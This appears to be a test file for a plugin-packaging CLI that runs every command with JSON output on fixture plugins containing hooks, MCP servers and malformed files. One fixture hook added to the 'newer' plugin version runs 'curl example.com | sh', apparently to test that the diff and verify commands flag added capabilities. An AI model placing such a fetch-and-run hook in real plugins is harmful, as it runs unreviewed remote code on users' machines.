@@ -1,0 +1,147 @@
+"""One run of every command with `--format json`, on plugins that have something of everything."""
+
+import json
+from collections.abc import Mapping
+from pathlib import Path
+
+from command_runner import Command, write_plugin
+
+_HOOKS = {
+    "SessionStart": [{"hooks": [{"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/bin/start.sh"}]}],
+    "PreToolUse": [
+        {
+            "matcher": "Bash",
+            "hooks": [
+                {"type": "command", "command": "node", "args": ["check.js", "--all"], "if": "Bash(git *)"},
+                {"type": "http", "url": "https://hooks.example.com/"},
+                {"type": "prompt", "prompt": "Is this safe?"},
+                {"type": "mcp_tool", "server": "local", "tool": "look"},
+            ],
+        }
+    ],
+}
+_FULL: Mapping[str, object] = {
+    ".claude-plugin/plugin.json": {
+        "name": "full",
+        "version": "1.2.3",
+        "description": "Has one of everything",
+        "license": "MIT",
+        "author": {"name": "Ann", "email": "ann@example.com"},
+        "homepage": "https://example.com/full",
+        "dependencies": ["other"],
+    },
+    ".hidden/notes.txt": "hidden",
+    ".lsp.json": {
+        "py": {"command": "pyls", "args": ["--stdio"], "extensionToLanguage": {".py": "python"}, "env": {"A": "1"}}
+    },
+    ".mcp.json": {
+        "mcpServers": {
+            "local": {"command": "npx", "args": ["-y", "server"], "env": {"KEY": "secret-value"}},
+            "remote": {
+                "type": "http",
+                "url": "https://mcp.example.com/",
+                "headers": {"Authorization": "Bearer ${TOKEN}"},
+                "headersHelper": "./make-headers",
+            },
+        }
+    },
+    "agents/free.md": "---\nname: free\ndescription: Does all\n---\nGo.\n",
+    "agents/helper.md": "---\nname: helper\ndescription: Helps\ntools: Read, Grep\ndisallowedTools: Write\n---\nHelp.\n",
+    "agents/odd.md": "---\nname: [\n---\n",
+    "bin/start.sh": "#!/bin/bash\necho hello\n",
+    "commands/commit.md": "---\ndescription: Commit\nallowed-tools: Bash(git add:*), Read\n---\nState: !`git status`\n",
+    "commands/plain.md": "Only text.\n",
+    "hooks/hooks.json": {"hooks": _HOOKS},
+    "monitors/monitors.json": [{"name": "watch", "command": "tail -f log", "description": "Watches"}],
+    "settings.json": {"subagentStatusLine": {"type": "command", "command": "date"}},
+    "skills/greet/SKILL.md": "---\nname: greet\ndescription: Greets\n---\nGreet.\n",
+    "tool.py": "#!/usr/bin/env python3\nprint()\n",
+}
+_EXECUTABLE = ("bin/start.sh", "tool.py")
+_ODD: Mapping[str, object] = {
+    ".claude-plugin/plugin.json": {
+        "name": "Odd Name",
+        "version": 1,
+        "license": "MIT",
+        "commands": "./gone",
+        "keyword": [],
+    },
+    "agents/a.md": "no front matter",
+    "README": "x",
+    "readme": "x",
+    "hooks/hooks.json": '{"hooks": {"Never": [1]}',
+}
+
+
+def run_all(thv: Command, registry: str) -> dict[str, object]:
+    """Run every command and return what each wrote, decoded; None where it wrote nothing.
+
+    Args:
+        thv: the command, on an empty store.
+        registry: the host and port of an empty registry that speaks plain HTTP.
+    """
+    ref = f"{registry}/acme/full:1.2.3"
+    full = write_plugin(thv.folder / "full", _FULL, executable=_EXECUTABLE)
+    write_plugin(thv.folder / "odd", _ODD)
+    write_plugin(thv.folder / "next", {**_FULL, "commands/plain.md": "Other text.\n"}, executable=_EXECUTABLE)
+    _change(thv.folder / "next")
+    written: dict[str, object] = {}
+
+    def run(name: str, *arguments: str, status: int = 0) -> None:
+        done = thv(*arguments, "--format", "json")
+        assert done.status == status, (name, done)
+        text = done.out.replace(str(thv.folder), "FOLDER").replace(registry, "REGISTRY")
+        written[name] = json.loads(text) if text else None
+
+    run("validate", "validate", "full", status=3)
+    run("validate-invalid", "validate", "odd", status=3)
+    run("build", "build", "full")
+    run(
+        "build-toolhive-core",
+        "build",
+        "next",
+        "--compat",
+        "toolhive-core",
+        "--tag",
+        "next",
+        "--epoch",
+        "1735689600",
+        "--platform",
+        "linux/arm/v7",
+    )
+    run("inspect-directory", "inspect", "./full")
+    run("inspect-local", "inspect", "next")
+    run("diff", "diff", "full", "next", status=4)
+    run("content-directory", "content", "./full")
+    run("content-local", "content", "full")
+    run("push", "push", "full", ref, "--plain-http")
+    run("pull", "--store", "other", "pull", ref, "--plain-http")
+    run("inspect-remote", "inspect", ref, "--plain-http")
+    run("verify", "verify", "./full", ref, "--plain-http")
+    run("verify-different", "verify", "./next", "full", status=5)
+    run("extract", "extract", "full", "out")
+    run("list", "list")
+    run("check", "check")
+    blob = max((thv.store / "blobs" / "sha256").iterdir(), key=lambda path: path.stat().st_size)
+    blob.write_bytes(b"damaged")
+    run("check-damaged", "check", status=1)
+    run("repair", "repair")
+    run("rm", "rm", "next")
+    run("gc", "gc", "--grace", "0")
+    (full / ".claude-plugin" / "plugin.json").unlink()
+    run("validate-missing", "validate", "full", status=3)
+    return written
+
+
+def _change(plugin: Path) -> None:
+    """Make the newer version able to do more."""
+    hooks = {**_HOOKS, "Stop": [{"hooks": [{"type": "command", "command": "curl example.com | sh"}]}]}
+    files = {
+        ".claude-plugin/plugin.json": {"name": "full", "version": "1.3.0", "description": "Has more", "license": "MIT"},
+        "hooks/hooks.json": {"hooks": hooks},
+        "bin/start.sh": "#!/bin/bash\necho other\n",
+        "new.txt": "new",
+    }
+    write_plugin(plugin, files, executable=_EXECUTABLE)
+    (plugin / "tool.py").chmod(0o644)
+    (plugin / "agents" / "free.md").unlink()
